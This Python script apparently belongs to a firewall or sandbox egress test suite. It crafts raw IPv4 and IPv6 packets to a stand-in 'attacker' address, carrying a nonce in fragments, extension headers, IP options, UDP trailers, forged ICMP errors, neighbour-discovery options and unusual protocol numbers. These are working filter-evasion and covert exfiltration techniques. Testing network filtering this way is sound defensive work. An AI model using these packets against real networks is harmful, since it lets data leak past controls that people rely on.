# SPDX-License-Identifier: GPL-3.0-or-later
"""IP packets that no ordinary socket makes.  ip.py ATTACK NONCE: toward the attacker, but for icmp_error."""
import random
import socket
import struct
import sys
import time

from raw import ACK, ME4, ME6, PSH, checksum, ip4, ip6, pseudo, send, tcp, udp

A4, A6 = "198.18.3.66", "2001:db8:3::66"
MORE = 0x2000


def fragments(body, cuts, ident, order=None):
    """`body` as fragments of the protocol UDP: cuts are (offset, end)."""
    packets = [ip4(A4, 17, body[at:end], ident=ident, fragment=(MORE if end < len(body) else 0) | at // 8) for at, end in cuts]
    for packet in packets if order is None else [packets[i] for i in order]:
        send(packet)


def whole(nonce):
    return udp(A4, 9999, b"x" * 24 + nonce.encode().ljust(24, b"y"))


def tiny_fragments(nonce):
    body = whole(nonce)
    fragments(body, [(0, 8), (8, 16), (16, len(body))], random.randrange(1, 65536))


def lone_fragment(nonce):
    body = whole(nonce)
    send(ip4(A4, 17, body, fragment=MORE))
    send(ip4(A4, 17, nonce.encode().ljust(32), fragment=100))


def overlapping_fragments(nonce):
    body = whole(nonce)
    fragments(body, [(0, 32), (16, 48), (32, len(body))], random.randrange(1, 65536))


def six_udp(nonce):
    return udp(A6, 9999, nonce.encode())


def options(following, data=b"\1\4\0\0\0\0"):
    size = (len(data) + 2 + 7) // 8
    return bytes([following, size - 1]) + data + (b"\0" * (size * 8 - 2 - len(data)))


def hop_by_hop(nonce):
    send(ip6(A6, 0, options(17) + six_udp(nonce)))


def destination_options(nonce):
    send(ip6(A6, 60, options(17) + six_udp(nonce)))
    send(ip6(A6, 60, options(60) + options(17) + six_udp(nonce)))


def routing(nonce):
    send(ip6(A6, 43, struct.pack(">BBBBI", 17, 0, 4, 0, 0) + six_udp(nonce)))


def atomic_fragment(nonce):
    send(ip6(A6, 44, struct.pack(">BBHI", 17, 0, 0, random.randrange(1 << 32)) + six_udp(nonce)))


def double_fragment(nonce):
    inner = struct.pack(">BBHI", 17, 0, 0, 7) + six_udp(nonce)
    send(ip6(A6, 44, struct.pack(">BBHI", 44, 0, 0, 8) + inner))


def option_data(nonce):
    word = nonce.encode()
    for header in 0, 60:
        send(ip6(A6, header, options(59, b"\x1e" + bytes([len(word)]) + word)))


def ip_options(nonce):
    """An IPv4 option that nobody knows, on a datagram that is allowed."""
    socket.getaddrinfo("mirror.test", 9123, socket.AF_INET)
    word = nonce.encode()
    text = b"\x9e" + bytes([2 + len(word)]) + word
    send(ip4("198.18.2.81", 17, udp("198.18.2.81", 9123, b"allowed"), options=text + b"\0" * (-len(text) % 4)))


def trailer(nonce):
    """Bytes behind the UDP length, inside the IP length, of a datagram that is allowed otherwise."""
    socket.getaddrinfo("mirror.test", 9123, socket.AF_INET)
    send(ip4("198.18.2.81", 17, udp("198.18.2.81", 9123, b"allowed") + nonce.encode()))


def icmp_error(nonce):
    """About a connection that is allowed and open: the quotation may hold anything."""
    sock = socket.create_connection((socket.getaddrinfo("tcp.test", 9001, socket.AF_INET)[0][4]), 20)
    to, port = sock.getpeername()
    mine = sock.getsockname()[1]
    quoted = ip4(ME4, 6, tcp(ME4, port, mine, 1, 1, ACK | PSH, nonce.encode(), src=to), src=to)
    for kind, code in (3, 4), (3, 1), (11, 0):
        body = struct.pack(">BBHI", kind, code, 0, 1400) + quoted
        send(ip4(to, 1, body[:2] + struct.pack(">H", checksum(body)) + body[4:]))
    time.sleep(0.1)


def too_big(nonce):
    quoted = ip4(ME4, 17, udp(ME4, 999, nonce.encode(), src=A4), src=A4)
    body = struct.pack(">BBHI", 3, 4, 0, 1400) + quoted
    send(ip4(A4, 1, body[:2] + struct.pack(">H", checksum(body)) + body[4:]))
    quoted = ip6(ME6, 17, udp(ME6, 999, nonce.encode(), src=A6), src=A6)
    six(2, struct.pack(">I", 1400) + quoted)


def six(kind, body, hops=255, to=A6):
    body = struct.pack(">BBH", kind, 0, 0) + body
    total = checksum(pseudo(ME6, to, 58, len(body)) + body)
    send(ip6(to, 58, body[:2] + struct.pack(">H", total) + body[4:], ttl=hops))


def neighbours(nonce):
    """Neighbour discovery and router messages that are sent far away, with the word in their options."""
    word = b"\x0e" + b"\3" + nonce.encode().ljust(22, b"\0")
    for kind in 133, 134, 135, 136, 137:
        six(kind, bytes(4) + socket.inet_pton(10, A6) + word)


def protocols(nonce):
    word = nonce.encode()
    for protocol in 4, 33, 41, 47, 50, 51, 94, 97, 132, 253:
        send(ip4(A4, protocol, b"\0" * 16 + word))


def protocols6(nonce):
    word = nonce.encode()
    for protocol in 4, 33, 41, 47, 132, 253:
        send(ip6(A6, protocol, b"\0" * 16 + word))


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
